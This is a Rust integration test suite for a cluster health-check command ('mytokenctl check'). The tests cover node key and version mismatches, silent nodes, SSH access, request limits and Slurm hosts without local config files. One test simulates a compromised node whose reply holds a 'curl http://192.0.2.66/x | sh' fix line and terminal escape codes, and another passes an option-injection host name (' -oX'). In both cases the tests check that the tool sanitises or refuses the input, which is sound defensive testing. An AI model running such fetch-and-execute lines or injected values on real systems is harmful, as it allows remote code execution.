// SPDX-License-Identifier: MIT OR Apache-2.0
//! `mytokenctl check` about a cluster: other hosts, the number of nodes, and hosts without files of Slurm.

use std::time::Duration;

use testbed::site::daemon::Daemon;
use testbed::{Options, Result, Site, story};

use crate::checked::{Found, findings, healthy, sees_alone};

/// The ids and sentences of the findings with these arguments.
fn found(site: &Site, arguments: &str) -> Result<Vec<(String, String)>> {
    let (found, _) = findings(site, arguments)?;
    Ok(found.into_iter().map(|Found { id, text, .. }| (id, text)).collect())
}

/// Whether this is the only finding, and its sentence contains this text.
fn is_alone(seen: &[(String, String)], id: &str, text: &str) {
    assert!(matches!(seen, [(one, sentence)] if one == id && sentence.contains(text)), "{id}, {text}: {seen:#?}");
}

/// Breaks nodes, sees one finding about them, and mends them.
fn sees(site: &Site, arguments: &str, break_it: &[(&str, &str)], id: &str, text: &str, mend: &str) -> Result<()> {
    for (node, script) in break_it {
        site.on_node(node, &format!("set -e; {script}"))?.ok()?;
    }
    is_alone(&found(site, arguments)?, id, text);
    for (node, _) in break_it {
        site.on_node(node, &format!("set -e; {mend}"))?.ok()?;
    }
    Ok(())
}

#[test]
fn differences_between_hosts_are_found() -> Result<()> {
    story(Options { nodes: 3, ..Options::new()? }, |site| {
        healthy(site)?;
        let all = "--offline --nodes n[1-3],n2";
        assert_eq!(found(site, all)?, []);
        let screen = site.sh("root", &format!("mytokenctl check {all}"))?.ok()?.stdout;
        assert!(screen.contains("3 hosts have no finding, and the version and key of this one"), "{screen}");
        site.sh("root", "mytokenctl keygen --dir /root/pair")?.ok()?;
        let other = "mount --bind /root/pair /etc/mytoken/keys";
        // Its agent has read the other pair, too, so the node alone is in order.
        site.on_node("n2", other)?.ok()?;
        site.stop("agent.n2", "TERM")?;
        site.restart("agent.n2")?;
        site.wait_for("the agent", Duration::from_secs(10), "root", "sleep 1")?;
        // Two of three nodes have the key of this host, so n2 gets it, and its own one is kept.
        let (seen, _) = findings(site, all)?;
        let kept = "cp -p --backup=numbered /etc/mytoken/keys/cluster.key /etc/mytoken/keys/cluster.key.before";
        let fix = seen.first().map(|found| found.fix.as_str()).unwrap_or_default();
        assert!(fix.starts_with("ssh n2 ") && fix.contains(kept), "{seen:?}");
        sees(site, all, &[("n2", "true")], "node-key", "n2 has the public key ", "umount /etc/mytoken/keys")?;
        site.stop("agent.n2", "TERM")?;
        site.restart("agent.n2")?;
        site.wait_for("the agent", Duration::from_secs(10), "root", "sleep 1")?;
        assert_eq!(found(site, all)?, []);

        // A program that answers as an older one.
        let program = site.sh("root", "command -v mytokenctl")?.ok()?.stdout;
        let program = program.trim();
        let older = "#!/bin/sh\n/root/mytokenctl \"$@\" | sed '/\"host\": {/,/}/ s/\"version\": \"[^\"]*\"/\"version\": \"0.0.9\"/'\n";
        site.write("/root/older", older, "0755")?;
        site.write("/root/broken", "#!/bin/sh\necho 'cannot read the disk' >&2; exit 5\n", "0755")?;
        site.sh("root", &format!("cp {program} /root/mytokenctl"))?.ok()?;
        let older = format!("mount --bind /root/older {program}");
        let broken = format!("mount --bind /root/broken {program}");
        let mend = format!("umount {program}");
        let both = [("n1", older.as_str()), ("n3", older.as_str())];
        sees(site, all, &both, "node-version", "n1, n3 has version 0.0.9, this host ", &mend)?;
        sees(site, all, &[("n2", broken.as_str())], "node-silent", "n2 gave no findings: cannot read the disk", &mend)?;
        // What a node finds itself is told with its name.
        let plain = "chmod 711 /run/mytoken";
        sees(
            site,
            all,
            &[("n3", "chmod 700 /run/mytoken")],
            "runtime-dir-mode",
            "n3: /run/mytoken has mode 700",
            plain,
        )?;
        // A node in an attacker's hands.
        let answer = r#"{"findings":[{"id":"clock","part":"x","level":"error","text":"late\u001b]0;t\u0007\nhosts           ok","fix":"curl http://192.0.2.66/x | sh"}]}"#;
        site.write("/root/hostile", &format!("#!/bin/sh\ncat <<'END'\n{answer}\nEND\n"), "0755")?;
        site.on_node("n2", &format!("mount --bind /root/hostile {program}"))?.ok()?;
        let screen = site.sh("root", &format!("mytokenctl check {all}"))?.stdout;
        assert!(screen.contains("\nnetwork         ✗ n2: late?]0;t? hosts ok\n"), "{screen:?}");
        assert!(!screen.contains("curl") && screen.contains("fix: srun -w n2 mytokenctl check\n"), "{screen:?}");
        // Of a finding that this program does not know, only the name; of too many, their number.
        let many = r#",{"id":"made-up","part":"x","level":"error","text":"x","fix":""}"#.repeat(120);
        let answer = format!(r#"{{"findings":[{}]}}"#, many.trim_start_matches(','));
        site.write("/root/longer", &format!("#!/bin/sh\ncat <<'END'\n{answer}\nEND\n"), "0755")?;
        site.on_node("n2", &format!("{mend} && mount --bind /root/longer {program}"))?.ok()?;
        let json = site.sh("root", &format!("mytokenctl check --json {all}"))?.stdout;
        for id in ["node-finding-unknown", "node-more-findings"] {
            assert!(json.contains(&format!("\"{id}\"")), "{id}: {json}");
        }
        site.on_node("n2", &mend)?.ok()?;
        // A node that Slurm gives to nobody.
        site.sh("root", "scontrol update nodename=n1 state=drain reason=story")?.ok()?;
        is_alone(&found(site, all)?, "node-silent", "n1 gave no findings: ");
        let refused = site.sh("root", "mytokenctl check --nodes ' -oX'")?;
        assert!(refused.code == 3 && refused.stderr.contains("is not the name of a host"), "{refused:?}");
        Ok(())
    })
}

/// The private key may be missing on a login host, but slurmd runs here.
#[test]
fn a_node_without_the_private_key_is_found() -> Result<()> {
    story(Options { nodes: 1, ..Options::new()? }, |site| {
        healthy(site)?;
        assert_eq!(found(site, "")?, []);
        site.sh("root", "mv /etc/mytoken/keys/cluster.key /root/")?.ok()?;
        site.stop("agent", "TERM")?;
        site.restart("agent")?;
        site.wait_for("the agent", Duration::from_secs(10), "root", "mytokenctl status --json")?;
        sees_alone(site, "", "true", "node-without-key", 2)?;
        Ok(())
    })
}

#[test]
fn hosts_are_reached_by_ssh() -> Result<()> {
    story(Options { nodes: 1, ..Options::new()? }, |site| {
        healthy(site)?;
        is_alone(&found(site, "--offline --via ssh --nodes testbed")?, "node-silent", "testbed gave no findings: ");
        let keys = "install -d -m 700 /root/.ssh; ssh-keygen -q -N '' -t ed25519 -f /root/.ssh/id_ed25519; \
                    cp /root/.ssh/id_ed25519.pub /root/.ssh/authorized_keys; ssh-keyscan testbed >/root/.ssh/known_hosts";
        site.sh("root", keys)?.ok()?;
        assert_eq!(found(site, "--offline --via ssh --nodes testbed")?, []);
        let as_alice =
            "cat /root/.ssh/id_ed25519.pub >>~alice/.ssh/authorized_keys; printf 'User alice\n' >/root/.ssh/config";
        site.sh("root", as_alice)?.ok()?;
        is_alone(&found(site, "--offline --via ssh --nodes testbed")?, "node-in-part", "testbed: it was not root");
        Ok(())
    })
}

/// The nodes reach the server from their own addresses. `hosts` says that they share one.
#[test]
fn a_cluster_that_is_too_large_for_the_servers_limit_is_found() -> Result<()> {
    story(Options { nodes: 3, request_limit: "62/300s", ..Options::new()? }, |site| {
        healthy(site)?;
        assert_eq!(found(site, "")?, []);
        site.sh("root", "printf 'hosts = [\"192.0.2.9\"]\\n' >>/etc/mytoken/jobs.toml")?.ok()?;
        let figures =
            "accepts 62 requests from one address in its period, and sees 3 nodes at 1 address (hosts of jobs.toml)";
        is_alone(&found(site, "")?, "server-request-limit-cluster", figures);
        // Brokers send one request for all nodes.
        let broker =
            "cp -p /etc/mytoken/jobs.toml /root/; printf '[broker]\\nnames = [\"b1\"]\\n' >>/etc/mytoken/jobs.toml";
        site.sh("root", broker)?.ok()?;
        assert!(found(site, "")?.iter().all(|finding| finding.0 != "server-request-limit-cluster"));
        site.sh("root", "mv /root/jobs.toml /etc/mytoken/jobs.toml")?.ok()?;
        site.sh("root", "printf '[budget]\\nper_host = 59\\n' >>/etc/mytoken/login.toml")?.ok()?;
        assert_eq!(found(site, "")?, []);
        Ok(())
    })
}

/// A node without `/etc/slurm`: slurmd gets its configuration from slurmctld (SLURM-05).
#[test]
fn a_host_without_files_of_slurm_is_checked() -> Result<()> {
    story(Options { nodes: 1, ..Options::new()? }, |site| {
        healthy(site)?;
        let line = "cat /usr/share/mytoken/plugstack.conf >/etc/slurm/plugstack.conf; rm /etc/slurm/plugstack.conf.d/mytoken.conf; \
                    echo SlurmctldParameters=enable_configless >>/etc/slurm/slurm.conf";
        site.sh("root", line)?.ok()?;
        site.stop("slurmd.n1", "TERM")?;
        site.stop("slurmctld", "TERM")?;
        site.restart("slurmctld")?;
        site.wait_for("slurmctld", Duration::from_secs(30), "root", "scontrol ping | grep -q UP")?;
        // The node has no files of Slurm: nothing of them, not even the directory's content.
        site.on_node("n1", "mount -t tmpfs tmpfs /etc/slurm")?.ok()?;
        let conf_server = ["slurmd", "-D", "-N", "n1", "--conf-server", "testbed:27817"];
        site.start_daemon(Daemon::new("slurmd.n1", conf_server).on("n1"))?;
        let runs = "pgrep -x slurmd && sinfo -h -N -o %T | grep -qx idle";
        site.wait_for("slurmd", Duration::from_secs(60), "root", runs)?;
        let here = site.on_node("n1", "ls /etc/slurm; ls /run/slurm/conf")?.ok()?.stdout;
        assert!(here.lines().any(|name| name == "plugstack.conf"), "{here}");
        let screen = site.on_node("n1", "mytokenctl check")?;
        assert_eq!(screen.code, 0, "{screen:?}");
        assert!(screen.stdout.contains("srun loads ") && screen.stdout.contains("cluster testbed"), "{screen:?}");
        // Without jobs.toml nothing would work there, which the file that slurmctld sent tells.
        site.on_node(
            "n1",
            "mkdir /root/empty; cp /etc/mytoken/mytoken.toml /root/empty; mount --bind /root/empty /etc/mytoken",
        )?
        .ok()?;
        let without = site.on_node("n1", "mytokenctl check --json")?;
        assert!(without.stdout.contains("\"jobs-toml-missing\""), "{without:?}");
        site.on_node("n1", "umount /etc/mytoken")?.ok()?;
        // slurmctld sends a plugstack.conf without the files that it includes.
        let included = "echo 'include /etc/slurm/plugstack.conf.d/*.conf' >/etc/slurm/plugstack.conf; \
                        cp /usr/share/mytoken/plugstack.conf /etc/slurm/plugstack.conf.d/mytoken.conf";
        site.sh("root", included)?.ok()?;
        site.stop("slurmd.n1", "TERM")?;
        site.sh("root", "scontrol reconfigure; sleep 1")?.ok()?;
        site.restart("slurmd.n1")?;
        site.wait_for("slurmd", Duration::from_secs(60), "root", runs)?;
        let broken = site.on_node("n1", "mytokenctl check --json")?;
        assert!(broken.code == 2 && broken.stdout.contains("\"plugin-line\""), "{broken:?}");
        // By a relative path, no file on the node can change that.
        let restart_with = |change: &str| {
            site.stop("slurmd.n1", "TERM")?;
            site.sh("root", change)?.ok()?;
            site.restart("slurmd.n1")?;
            site.wait_for("slurmd", Duration::from_secs(60), "root", runs).map(drop)
        };
        restart_with(
            "echo 'include plugstack.conf.d/*.conf' >/etc/slurm/plugstack.conf; scontrol reconfigure; sleep 1",
        )?;
        let broken = site.on_node("n1", "mytokenctl check --json")?;
        assert!(broken.code == 2 && broken.stdout.contains("slurmctld sends this host a plugstack.conf"), "{broken:?}");
        assert!(broken.stdout.contains("ssh testbed mytokenctl check"), "{broken:?}");
        let (found, _) = findings(site, "")?;
        let found = found.iter().find(|found| found.id == "plugin-configless");
        restart_with(&format!("{}\nsleep 1", found.map(|found| found.fix.as_str()).unwrap_or("false")))?;
        let mended = site.on_node("n1", "mytokenctl check")?;
        assert!(mended.code == 0 && mended.stdout.contains("srun loads "), "{mended:?}");
        let job_env = "echo AccountingStoreFlags=job_env >>/etc/slurm/slurm.conf; scontrol reconfigure; sleep 1";
        site.sh("root", job_env)?.ok()?;
        let told = site.on_node("n1", "mytokenctl check --json")?;
        let fix = "ssh testbed 'grep -in -e AccountingStoreFlags -e ^include /etc/slurm/slurm.conf'";
        assert!(told.code == 1 && told.stdout.contains(fix), "{told:?}");
        // A slurmctld that has no plugstack.conf sends none. Here, too, no file on the node helps.
        restart_with(
            "sed -i /AccountingStoreFlags/d /etc/slurm/slurm.conf; rm /etc/slurm/plugstack.conf; scontrol reconfigure; sleep 1",
        )?;
        site.on_node("n1", "rm -f /run/slurm/conf/plugstack.conf")?.ok()?;
        let none = site.on_node("n1", "mytokenctl check --json")?;
        assert!(none.code == 2 && none.stdout.contains("slurmctld sends this host no plugstack.conf"), "{none:?}");
        assert!(none.stdout.contains("ssh testbed mytokenctl check"), "{none:?}");
        Ok(())
    })
}
